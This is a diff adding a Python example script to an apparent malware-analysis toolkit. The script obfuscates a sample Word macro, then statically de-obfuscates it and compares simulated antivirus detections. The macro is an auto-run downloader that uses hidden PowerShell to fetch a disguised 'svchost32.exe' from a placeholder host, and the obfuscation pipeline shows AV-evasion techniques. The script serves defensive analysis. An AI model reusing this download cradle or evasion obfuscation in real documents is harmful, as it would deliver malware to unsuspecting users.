@@ -1,0 +1,67 @@
+"""De-obfuscation walkthrough: recover plaintext indicators statically.
+
+Obfuscates a downloader with every O2/O3 technique, then runs the static
+de-obfuscation engine and shows (a) the recovered source, (b) the simulated
+AV fleet's detections before/after — the operational payoff.
+
+Run with::
+
+    python examples/deobfuscate_macro.py
+"""
+
+from __future__ import annotations
+
+from repro.avsim.virustotal import VirusTotalSim
+from repro.deobfuscation import deobfuscate
+from repro.obfuscation.encode import StringEncoder
+from repro.obfuscation.pipeline import ObfuscationPipeline
+from repro.obfuscation.split import StringSplitter
+
+MACRO = (
+    "Sub Document_Open()\n"
+    "    Dim target As String\n"
+    "    Dim cradle As String\n"
+    '    target = "http://update-cdn.example.net/a1b2c3/svchost32.exe"\n'
+    '    cradle = "powershell -w hidden -c Invoke-WebRequest " & target\n'
+    '    CreateObject("WScript.Shell").Run cradle, 0, False\n'
+    "End Sub\n"
+)
+
+
+def main() -> None:
+    pipeline = ObfuscationPipeline(
+        [
+            StringSplitter(chunk_min=1, chunk_max=3, hoist_const_probability=0.4),
+            StringEncoder(),
+        ]
+    )
+    obfuscated = pipeline.run(MACRO, seed=2024).source
+    print("=== obfuscated macro (what an analyst receives) ===")
+    print(obfuscated)
+
+    scanner = VirusTotalSim()
+    before = scanner.scan([obfuscated])
+
+    outcome = deobfuscate(obfuscated)
+    print("\n=== after static de-obfuscation ===")
+    print(outcome.source)
+
+    after = scanner.scan([outcome.source])
+    report = outcome.report
+    print("=== report ===")
+    print(f"expressions folded:        {report.folded_expressions}")
+    print(f"decoder calls evaluated:   {report.decoder_calls_evaluated}")
+    print(f"module consts inlined:     {report.consts_inlined}")
+    print(f"decoder procedures removed: {', '.join(report.procedures_removed) or '-'}")
+    interesting = [s for s in report.recovered_strings if "http" in s or "powershell" in s]
+    print(f"recovered indicators:      {interesting[-2:]}")
+    print(
+        f"\nAV detections: {before.detections}/60 before -> "
+        f"{after.detections}/60 after de-obfuscation"
+    )
+    assert "svchost32.exe" in outcome.source
+    print("\nThe download URL and PowerShell cradle are back in plaintext.")
+
+
+if __name__ == "__main__":
+    main()
